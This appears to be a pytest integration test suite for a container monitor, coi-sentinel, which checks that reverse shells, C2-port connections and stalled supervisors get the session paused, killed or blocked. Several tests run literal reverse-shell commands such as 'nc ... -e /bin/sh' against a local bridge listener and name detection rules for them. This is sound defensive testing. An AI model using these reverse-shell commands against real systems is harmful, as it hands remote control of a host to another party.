"""The monitor of a real session acting on it: pause, kill, kill-process, in-kernel kill, and
failing closed when the process that owns the monitor dies or stops.

Each test runs `coi-sentinel run` as a user would, on the busybox image, and watches the
container's cgroup2 freezer from the host. Network traffic goes only to a listener on the
Incus bridge's own address (reachable from the containers in `open` mode).
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from incus_support import BUSYBOX
from support import require_bpf

pytestmark = [pytest.mark.incus, pytest.mark.bpf]

BRIDGE_IP = "10.123.45.1"


# ---------------------------------------------------------------- helpers
def configure(env, *, response: str = "", rules: str | None = None, **top) -> None:
    values = {"image": BUSYBOX, "monitoring": True, "network": "open", **top}
    text = "".join(f"{k} = {json.dumps(v)}\n" for k, v in values.items())
    if rules is not None:
        (env.home / ".config/coi-sentinel/test-rules.yaml").write_text(rules)
        text += 'rules = ["test-rules.yaml"]\n'
    (env.home / ".config/coi-sentinel/config.toml").write_text(text + response)


def session_name(env) -> str:
    from coi_sentinel.host import naming

    return naming.container_name("coi", env.ws, 1)


def freeze_file(name: str) -> Path:
    from coi_sentinel.host.cgroups import cgroup2_mount

    return cgroup2_mount() / f"lxc.payload.{name}" / "cgroup.freeze"


def is_frozen(name: str) -> bool:
    try:
        return freeze_file(name).read_text().strip() == "1"
    except OSError:
        return False


def wait_for(what: str, check, timeout: float, step: float = 0.001, procs=()):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = check()
        if value:
            return value
        for p in procs:
            if p.poll() is not None:
                raise AssertionError(f"run exited {p.returncode} while waiting for {what}: "
                                     f"{p.stderr.read()}")
        time.sleep(step)
    raise AssertionError(f"{what} did not happen within {timeout} s")


def audit_records(env, name: str) -> list[dict]:
    """Every line of the session's audit log (all its files, oldest first)."""
    audit = env.home / ".local/state/coi-sentinel/audit"
    files = sorted(audit.glob(f"{name}.0*.jsonl")) + [audit / f"{name}.jsonl"]
    return [json.loads(line) for f in files if f.exists() for line in f.read_text().splitlines()]


def actions(records: list[dict], **match) -> list[dict]:
    return [r for r in records if r.get("record") == "action"
            and all(r.get(k) == v for k, v in match.items())]


def guardians(name: str) -> list[int]:
    """pids of guardian processes of the session ``name``: those holding its cgroup.freeze
    (a guardian started as a spare has no session name on its command line)."""
    out = []
    freeze = f"/lxc.payload.{name}/cgroup.freeze"
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            argv = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
            if b"coi_sentinel.supervision.guardian" not in argv:
                continue
            fds = [os.readlink(f"/proc/{entry}/fd/{fd}") for fd in os.listdir(f"/proc/{entry}/fd")]
        except OSError:
            continue
        if any(target.endswith(freeze) for target in fds):
            out.append(int(entry))
    return out


def ticks(env) -> int:
    try:
        return len((env.ws / "ticks").read_text().splitlines())
    except OSError:
        return 0


TICKER = "while :; do echo x >> /workspace/ticks; sleep 0.05; done"


def assert_stays(env, seconds: float = 1.0) -> None:
    """The ticker in the container does not move (it is frozen)."""
    before = ticks(env)
    time.sleep(seconds)
    assert ticks(env) == before, "the session still runs"


def assert_moves(env, timeout: float = 60.0) -> None:
    """The agent's ticker moves (the first call waits for the agent to start: a daemon that the
    run had to start compiles its probes first, tens of seconds on a loaded machine)."""
    before = ticks(env)
    wait_for("the ticker to move", lambda: ticks(env) > before + 2, timeout, step=0.05)


class Listener:
    """A TCP listener on the bridge IP that, once a connection comes, sends a shell command
    every 50 ms and keeps what comes back with the time (CLOCK_MONOTONIC ns) it arrived."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            self.sock.bind((BRIDGE_IP, 0))
        except OSError as err:
            self.sock.close()
            pytest.skip(f"no listener on the Incus bridge address {BRIDGE_IP}: {err}")
        self.sock.listen(1)
        self.port = self.sock.getsockname()[1]
        self.connected_at: int | None = None
        self.received: list[tuple[int, bytes]] = []
        self._stop = threading.Event()
        self._conn: socket.socket | None = None
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        self.sock.settimeout(0.1)
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
                break
            except TimeoutError:
                continue
        else:
            return
        self._conn = conn
        self.connected_at = time.monotonic_ns()
        conn.settimeout(0.05)
        i = 0
        while not self._stop.is_set():
            try:
                conn.sendall(f"echo OUT{i}\n".encode())
            except OSError:
                return
            i += 1
            try:
                data = conn.recv(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            if not data:
                return
            self.received.append((time.monotonic_ns(), data))

    def data_after(self, t_ns: int) -> bytes:
        return b"".join(d for t, d in self.received if t > t_ns)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        if self._conn is not None:
            self._conn.close()
        self.sock.close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture
def session_env(env):
    """``env`` whose session leaves no guardian behind."""
    require_bpf()
    yield env
    name = session_name(env)
    deadline = time.monotonic() + 20
    while guardians(name) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert guardians(name) == [], "a guardian outlived its session"


def stop(p: subprocess.Popen) -> None:
    if p.poll() is None:
        p.kill()
        p.wait()


# ---------------------------------------------------------------- pause
REVERSE_SHELL_PAUSES = """
[response]
kill_shell_socket = false     # the kernel would kill the shell at its exec: test the pause
critical = "pause"            # the other shell rules (spawned by a network process...) too

[response.rules]
reverse_shell_socket_dup = "pause"
reverse_shell_exec_socket_stdio = "pause"
"""


def test_reverse_shell_is_frozen_and_answers_nothing_until_resumed(session_env, listener):
    env = session_env
    configure(env, response=REVERSE_SHELL_PAUSES)
    name = session_name(env)
    p = env.popen("run", "--", "sh", "-c", f"nc {BRIDGE_IP} {listener.port} -e /bin/sh; echo after-resume")
    try:
        wait_for("the reverse shell's connection", lambda: listener.connected_at, 120, procs=(p,))
        wait_for("the freeze", lambda: is_frozen(name), 10)
        time.sleep(2)                       # the listener keeps sending commands meanwhile
        records = audit_records(env, name)
        # both reverse-shell rules fire; the second finds the session paused already
        [pause] = [a for a in actions(records, action="pause", by="rules") if not a.get("skipped")]
        assert pause["ok"] is True and pause["rule"].startswith("reverse_shell_")
        assert pause["container"] == name and pause["severity"] == "critical"
        assert 0 < pause["latency_ns"] < 1_000_000_000 and pause["freeze_ns"] > 0
        assert pause["ts_ns"] == pause["event_ts_ns"] + pause["latency_ns"]
        alerts = [r for r in records if r.get("record") == "alert" and r["rule"] == pause["rule"]]
        assert alerts and alerts[0]["process"]["pid"] == pause["pid"]
        # nothing the shell ran reached the listener after the freeze completed (the listener
        # stamps what it receives when its thread reads it: 50 ms of grace for that thread)
        # (not "after the test saw cgroup.freeze = 1": that is the request, and an answer sent
        # before the freeze completed can be read by the listener's thread after it)
        assert listener.data_after(pause["ts_ns"] + 50_000_000) == b"", listener.received
        quiet = time.monotonic_ns()
        [s] = env.sessions()
        assert s["state"] == "Frozen" and s["paused"]["rule"] == pause["rule"]
        row = next(line for line in env.run("list").out.splitlines() if line.startswith(name))
        assert row.split()[2] == "FROZEN"
        r = env.run("resume-session", name)
        assert r.code == 0 and r.out == f"{name} resumed\n", r.err
        assert not is_frozen(name)
        # the commands queued while it was frozen run now: the channel itself was working
        wait_for("the shell's answer after the resume", lambda: b"OUT" in listener.data_after(quiet), 10)
        listener.close()                    # the shell's input ends: nc and the shell exit
        code = p.wait(timeout=60)
        out, err = p.stdout.read(), p.stderr.read()
    finally:
        stop(p)
    assert code == 0, err
    assert out.endswith("after-resume\n")
    assert f"== coi-sentinel: {name} PAUSED" in err and pause["rule"] in err
    assert "ms after the event" in err and f"coi-sentinel resume-session {name}" in err
    assert actions(audit_records(env, name), action="resume", by="user")
    assert env.containers() == []


def test_reverse_shell_is_killed_by_the_kernel_before_its_first_byte(session_env, listener):
    """The default settings: nc connects to the bridge and puts the socket on its stdin and
    stdout to exec a shell: the kernel kills it at that dup, the listener gets its connection
    and not a byte."""
    env = session_env
    configure(env)
    name = session_name(env)
    env.run("run", "--", "sh", "-c", f"nc {BRIDGE_IP} {listener.port} -e /bin/sh; echo rc=$?",
                timeout=180)
    # the listener's thread accepts within 0.1 s of the connection
    wait_for("the reverse shell's connection", lambda: listener.connected_at, 10)
    time.sleep(0.5)                         # what the shell would have answered has had time
    assert listener.received == []
    records = audit_records(env, name)
    kernel = actions(records, action="kill-process", by="kernel")
    assert kernel and "network socket" in kernel[0]["reason"], kernel
    assert any(r.get("record") == "alert" and r["rule"].startswith("reverse_shell_") for r in records)
    assert env.containers() == []


def test_list_and_resume_of_a_session_that_is_not_paused(session_env):
    env = session_env
    configure(env)
    name = session_name(env)
    p = env.popen("run", "--", "sh", "-c", TICKER)
    try:
        env.wait_sessions(1, procs=(p,))
        r = env.run("unfreeze", name)
        assert r.code == 0 and r.out == f"{name} is not paused\n"
        [s] = env.sessions()
        assert s["state"] == "Running" and s["paused"] is None
        p.send_signal(signal.SIGTERM)
        assert p.wait(timeout=60) == 4
    finally:
        stop(p)
    assert env.containers() == []


# ---------------------------------------------------------------- kill, kill-process, the kernel
MARKER_RULE = """
- required_engine_version: 1

- rule: test_marker_command
  description: The marker command of a response test ran.
  severity: critical
  events: [exec]
  condition: >
    evt.errno = 0
    and proc.cmdline = "sleep 27.1828"
  output: >-
    Marker command ran (cmdline=%proc.cmdline container=%container.name)
  tags: [test]
{action}  false_positives: >
    None; a test rule.
"""


def test_kill_process_rule_kills_the_tree_and_spares_the_rest(session_env):
    env = session_env
    configure(env, rules=MARKER_RULE.format(action="  action: kill-process\n"))
    name = session_name(env)
    script = (
        "sleep 1001 & b=$!\n"
        # the tree: a shell with two children, which then execs the marker command
        'sh -c "sleep 1002 & sleep 1003 & sleep 0.5; exec sleep 27.1828" &\n'
        "t=$!\n"
        "wait $t; echo tree-exit=$?\n"
        "kill -0 $b && echo bystander-alive\n"
        'ps | grep -c "sleep 100[23]$" || true\n'
        "kill $b\n")
    r = env.run("run", "--", "sh", "-c", script, timeout=180)
    assert r.code == 3, r.err                        # the monitor killed a process of the agent
    assert r.out.splitlines() == ["tree-exit=137", "bystander-alive", "0"], \
        (r.err, actions(audit_records(env, name)))
    [act] = actions(audit_records(env, name), action="kill-process", by="rules")
    assert act["ok"] is True and act["rule"] == "test_marker_command"
    assert len(act["killed_pids"]) == 3 and act["pid"] in act["killed_pids"]
    assert 0 < act["latency_ns"] < 1_000_000_000
    assert f"{name} PROCESS KILLED" in r.err
    assert env.containers() == []


def test_critical_rule_by_default_kills_the_container(session_env):
    env = session_env
    configure(env, rules=MARKER_RULE.format(action=""))
    name = session_name(env)
    r = env.run("run", "--", "sh", "-c", "sleep 27.1828; echo not-reached", timeout=180)
    assert r.code == 3, r.err
    assert "not-reached" not in r.out
    [act] = actions(audit_records(env, name), action="kill", by="rules")
    assert act["ok"] is True and act["kill_ns"] > 0 and 0 < act["latency_ns"] < 1_000_000_000
    assert f"{name} KILLED" in r.err
    assert env.containers() == []


def test_connect_to_a_c2_port_is_killed_by_the_kernel(session_env):
    env = session_env
    configure(env, response='[response]\nhigh = "alert"\n')   # only the kernel's kill here
    name = session_name(env)
    r = env.run("run", "--", "sh", "-c", f"nc -w 2 {BRIDGE_IP} 4444 </dev/null; echo rc=$?", timeout=180)
    assert r.code == 3, r.err
    assert r.out == "rc=137\n"                       # SIGKILL at connect(), before it was made
    records = audit_records(env, name)
    [act] = actions(records, action="kill-process", by="kernel")
    assert act["ok"] is True and f"{BRIDGE_IP}:4444" in act["reason"]
    assert any(r.get("record") == "alert" and r["rule"] == "c2_port_connect" for r in records)
    assert env.containers() == []


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="32-bit calls through int $0x80 are x86-64's")
def test_a_32_bit_reverse_shell_is_killed_by_the_kernel_at_its_socket(session_env, listener, attack):
    """socket, connect and dup2 as 32-bit calls (int $0x80), which no syscall tracepoint sees:
    a session's kill policy stops the program at its 32-bit socket call, before any connect."""
    env = session_env
    configure(env, response='[response]\nhigh = "alert"\ncritical = "alert"\n')   # the kernel's kill alone
    name = session_name(env)
    r = env.run("run", "--", "sh", "-c", f"{attack} compat {BRIDGE_IP} {listener.port}; echo rc=$?",
                timeout=180)
    assert r.code == 3, r.err
    assert r.out == "rc=137\n"
    time.sleep(0.5)
    assert listener.connected_at is None and listener.received == []
    records = audit_records(env, name)
    [act] = actions(records, action="kill-process", by="kernel")
    assert act["ok"] is True and "32-bit system call socket" in act["reason"], act
    assert any(r.get("record") == "alert" and r["rule"] == "compat_syscall" for r in records)
    assert env.containers() == []


# ---------------------------------------------------------------- fail closed
def test_sigkill_of_run_leaves_the_session_frozen_not_unwatched(session_env):
    """`run` holds the session's lease on the daemon: killed, the daemon pauses the session
    as an orphan at once; it cannot be resumed (nobody owns it), only killed or cleaned."""
    env = session_env
    configure(env)
    name = session_name(env)
    p = env.popen("run", "--", "sh", "-c", TICKER)
    try:
        env.wait_sessions(1, procs=(p,))
        assert_moves(env)                     # the agent runs: the daemon and guardian are up
        assert len(guardians(name)) == 1
        p.send_signal(signal.SIGKILL)
        killed_at = time.monotonic()
        wait_for("the daemon's freeze", lambda: is_frozen(name), 2)
        print(f"frozen {1000 * (time.monotonic() - killed_at):.1f} ms after the SIGKILL")
        p.wait()
        assert_stays(env)
        wait_for("the orphan mark", lambda: env.sessions()[0]["paused"], 5, step=0.05)
        [s] = env.sessions()
        assert s["state"] == "Frozen" and s["orphan"] is True
        assert s["paused"]["by"] == "daemon" and "owner" in s["paused"]["reason"]
        records = audit_records(env, name)
        [rec] = actions(records, by="daemon")
        assert rec["action"] == "pause" and rec["ok"] is True and "went away" in rec["reason"]
        assert any(r.get("event") == "orphaned" for r in records)
        r = env.run("audit", "verify", str(env.home / f".local/state/coi-sentinel/audit/{name}.jsonl"))
        assert r.code == 0, r.out + r.err
        r = env.run("resume-session", name)
        assert r.code == 1 and "stays paused" in r.err and "unwatched" in r.err
        assert is_frozen(name)
        r = env.run("kill", name)
        assert r.code == 0, r.err
        wait_for("the guardian to exit", lambda: not guardians(name), 15, step=0.1)
    finally:
        stop(p)
    assert env.containers() == []


def test_sigkill_of_the_keeper_leaves_the_interactive_session_frozen(session_env):
    env = session_env
    configure(env)
    name = session_name(env)
    r = env.run("run", "--detach")
    assert r.code == 0, r.err
    try:
        [s] = env.wait_sessions(1)          # `run --detach` returns once the agent runs
        from coi_sentinel.host import incus

        token = incus.raw_get(incus.connect(), f"instances/{name}")["config"]["user.coi.keeper"]
        keeper = int(token.split(":")[1])
        assert guardians(name)
        os.kill(keeper, signal.SIGKILL)
        wait_for("the daemon's freeze", lambda: is_frozen(name), 5)
        wait_for("the orphan mark", lambda: env.sessions()[0]["paused"], 5, step=0.05)
        [s] = env.sessions()
        assert s["state"] == "Frozen" and s["paused"]["by"] == "daemon"
        r = env.run("attach", name)
        assert r.code == 1 and "is paused" in r.err
    finally:
        env.run("kill", name)
    assert env.containers() == []


def test_stalled_daemon_is_paused_by_the_guardian_and_can_be_resumed(session_env):
    """A daemon that stops reading (SIGSTOP here) gets the session frozen by the guardian; once
    it reads again, the session can be resumed."""
    from incus_support import daemon_pid

    env = session_env
    configure(env, response="[response]\nstall_seconds = 1\n")
    name = session_name(env)
    p = env.popen("run", "--", "sh", "-c", TICKER)
    daemon = None
    try:
        env.wait_sessions(1, procs=(p,))
        assert_moves(env)
        daemon = daemon_pid(env.socket)
        assert daemon is not None
        os.kill(daemon, signal.SIGSTOP)      # the daemon's process, all its threads
        wait_for("the guardian's freeze", lambda: is_frozen(name), 6)
        assert_stays(env)
        [s] = env.sessions()
        assert s["paused"]["by"] == "guardian" and "stopped reading" in s["paused"]["reason"]
        r = env.run("resume-session", name)
        assert r.code == 1 and "not running" in r.err
        os.kill(daemon, signal.SIGCONT)
        daemon = None
        r = env.run("resume-session", name)  # waits for the daemon to answer again
        assert r.code == 0, r.err
        assert_moves(env)
        r = env.run("status", "--json")      # the daemon tells how long it did not read
        loop = json.loads(r.out)["daemon"]["daemon"]["loop"]
        assert loop["slow_polls"] >= 1 and loop["max_gap_ms"] >= 1000, loop
        records = audit_records(env, name)
        assert actions(records, action="pause", by="outside")     # noticed by the daemon
        assert actions(records, action="resume", by="user")
        p.send_signal(signal.SIGTERM)        # `shutdown`'s way of ending a headless run
        assert p.wait(timeout=60) == 4
    finally:
        if daemon is not None:
            os.kill(daemon, signal.SIGCONT)
        stop(p)
    assert env.containers() == []


def test_full_audit_disk_pauses_the_session(session_env):
    env = session_env
    configure(env)
    name = session_name(env)
    audit = env.home / ".local/state/coi-sentinel/audit"
    audit.mkdir(parents=True, mode=0o700)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2m,mode=0700", "coi-test", str(audit)], check=True)
    filler = audit / "filler"
    p = env.popen("run", "--", "sh", "-c", TICKER)
    try:
        env.wait_sessions(1, procs=(p,))
        assert_moves(env)
        with open(filler, "wb", buffering=0) as f:   # every free byte of the log's file system
            try:
                while True:
                    f.write(b"\0" * 4096)
            except OSError:
                pass
        wait_for("the monitor's freeze", lambda: is_frozen(name), 10, step=0.01)
        assert_stays(env)
        [s] = env.sessions()
        assert s["paused"]["by"] == "monitor" and "audit log cannot be written" in s["paused"]["reason"]
        r = env.run("resume-session", name)     # the disk is still full: no "resumed" (issue 17)
        assert r.code == 1 and r.err.count("\n") == 1, r.err
        assert f"{name} stays paused: the disk of its audit log" in r.err and "(ENOSPC)" in r.err
        assert is_frozen(name)
        filler.unlink()                         # space comes back: the kept records are written
        r = env.run("resume-session", name)
        assert r.code == 0, r.err
        assert_moves(env)
        p.send_signal(signal.SIGTERM)
        assert p.wait(timeout=60) == 4
        [rec] = actions(audit_records(env, name), action="pause", by="monitor")
        assert rec["ok"] is True and "no space left" in rec["reason"]
    finally:
        stop(p)
        subprocess.run(["umount", "-l", str(audit)], check=False)
    assert env.containers() == []


CONNECT_RULE = """
- required_engine_version: 1

- rule: test_connect_to_listener
  description: A connection to the test's listener.
  severity: high
  events: [connect]
  condition: >
    net.dip = {ip}
    and net.dport = {port}
  output: >-
    Connection to the test listener (dest=%net.dip:%net.dport container=%container.name)
  tags: [test]
  action: block
  false_positives: >
    None; a test rule.
"""


def test_block_rule_adds_the_destination_to_the_sessions_deny_set(session_env):
    env = session_env
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        srv.bind((BRIDGE_IP, 0))
    except OSError as err:
        srv.close()
        pytest.skip(f"no listener on the Incus bridge address {BRIDGE_IP}: {err}")
    srv.listen(8)
    port = srv.getsockname()[1]
    accepted: list[int] = []

    def serve() -> None:
        srv.settimeout(0.2)
        while True:
            try:
                c, _ = srv.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            accepted.append(port)
            c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    configure(env, rules=CONNECT_RULE.format(ip=BRIDGE_IP, port=port))
    name = session_name(env)
    try:
        r = env.run("run", "--", "sh", "-c",
                    f"nc -w 2 {BRIDGE_IP} {port} </dev/null; echo first=$?; sleep 1; "
                    f"nc -w 2 {BRIDGE_IP} {port} </dev/null; echo second=$?", timeout=180)
    finally:
        srv.close()
        t.join(timeout=5)
    assert r.code == 0, r.err
    print("OUT", r.out, "ERR", r.err, "ACC", accepted)
    # the second connect times out: dropped (the first may see its close dropped as well)
    assert r.out.splitlines()[1] == "second=1", r.out
    assert len(accepted) == 1
    [act] = actions(audit_records(env, name), action="block", by="rules")
    assert act["ok"] is True and act["blocked"] == f"{BRIDGE_IP}:{port}"
    assert f"{name} DESTINATION BLOCKED" in r.err
    assert env.containers() == []


class Terminal:
    """`coi-sentinel run` in a tmux on the host (its own server, prefix C-a)."""

    def __init__(self, env) -> None:
        from support import require_tool

        require_tool("tmux")
        self.sock = f"coi-test-{os.urandom(4).hex()}"
        self.env = env

    def tmux(self, *args: str) -> str:
        return subprocess.run(["tmux", "-L", self.sock, *args], check=True, capture_output=True,
                              text=True).stdout

    def start(self, *cli: str) -> None:
        cmd = " ".join(self.env.argv(*cli)) + "; echo EXIT-$?; sleep 600"
        self.tmux("-f", "/dev/null", "new-session", "-d", "-s", "t", "-x", "100", "-y", "40",
                  "-c", str(self.env.ws), "-e", f"HOME={self.env.home}", "-e", "TERM=xterm-256color",
                  "-e", f"COI_SENTINEL_SOCKET={self.env.socket}", cmd)
        self.tmux("set-option", "-g", "prefix", "C-a")

    def wait_for(self, text: str, timeout: float = 60) -> str:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            screen = self.tmux("capture-pane", "-p", "-t", "t")
            if text in screen:
                return screen
            time.sleep(0.1)
        raise AssertionError(f"{text!r} did not appear:\n{self.tmux('capture-pane', '-p', '-t', 't')}")

    def close(self) -> None:
        subprocess.run(["tmux", "-L", self.sock, "kill-server"], capture_output=True)
        sock = Path(os.environ.get("TMUX_TMPDIR", "/tmp")) / f"tmux-{os.getuid()}" / self.sock
        sock.unlink(missing_ok=True)


def test_attached_terminal_shows_the_pause_and_lets_go(session_env):
    env = session_env
    configure(env, rules=MARKER_RULE.format(action="  action: pause\n"))
    name = session_name(env)
    term = Terminal(env)
    try:
        term.start("run")
        term.wait_for("/workspace $")
        term.tmux("send-keys", "-t", "t", "sleep 27.1828", "Enter")
        screen = term.wait_for("EXIT-0", timeout=30)   # `run` gave the terminal back
        assert f"== coi-sentinel: {name} PAUSED" in screen and "test_marker_command" in screen
        assert "detached: the session is paused" in screen
        assert is_frozen(name)
        r = env.run("shutdown", name)                  # its keeper ends it, frozen as it is
        assert r.code == 0 and "shut down by its keeper" in r.out, r.out + r.err
    finally:
        term.close()
        env.run("kill", name)
    assert env.containers() == []


def test_losing_events_pauses_the_session(session_env):
    """A flood of new files (two records each) from inside the container overflows the ring
    buffer; with max_drops = 0 the session is paused as soon as the monitor sees the loss."""
    from support import require_tool

    env = session_env
    require_tool("gcc")
    exe = env.ws / "workloads"
    built = subprocess.run(["gcc", "-O2", "-static", "-o", str(exe),
                            str(Path(__file__).resolve().parents[2] / "bench" / "workloads.c")],
                           capture_output=True, text=True)
    if built.returncode != 0:
        pytest.skip(f"cannot build a static workload: {built.stderr.strip()[:200]}")
    configure(env)
    name = session_name(env)
    p = env.popen("run", "--", "sh", "-c",
                  "mkdir -p /tmp/f; /workspace/workloads openunlink 20000000 /tmp/f; echo flood-ended")
    try:
        wait_for("the monitor's freeze", lambda: is_frozen(name), 120, step=0.01, procs=(p,))
        [s] = env.sessions()
        assert s["paused"]["by"] == "monitor" and "lost" in s["paused"]["reason"]
        r = env.run("kill", name)
        assert r.code == 0, r.err
        p.wait(timeout=60)
        assert "flood-ended" not in p.stdout.read()
    finally:
        stop(p)
    records = audit_records(env, name)
    [rec] = actions(records, action="pause", by="monitor")
    assert rec["ok"] is True and "max_drops = 0" in rec["reason"]
    assert any(r.get("record") == "drops" and r["counts"] for r in records)
    assert env.containers() == []


def test_a_killed_guardian_is_replaced_and_still_guards(session_env):
    env = session_env
    configure(env)
    name = session_name(env)
    p = env.popen("run", "--", "sh", "-c", TICKER)
    try:
        env.wait_sessions(1, procs=(p,))
        assert_moves(env)
        [first] = guardians(name)
        os.kill(first, signal.SIGKILL)
        wait_for("a new guardian", lambda: [g for g in guardians(name) if g != first], 5, step=0.05)
        assert not is_frozen(name)
        assert_moves(env)
        p.send_signal(signal.SIGKILL)          # and the new one does its job
        wait_for("the guardian's freeze", lambda: is_frozen(name), 2)
        p.wait()
        records = audit_records(env, name)
        assert any(r.get("record") == "monitor" and r.get("event") == "guardian-restarted" for r in records)
        r = env.run("kill", name)
        assert r.code == 0, r.err
    finally:
        stop(p)
    assert env.containers() == []
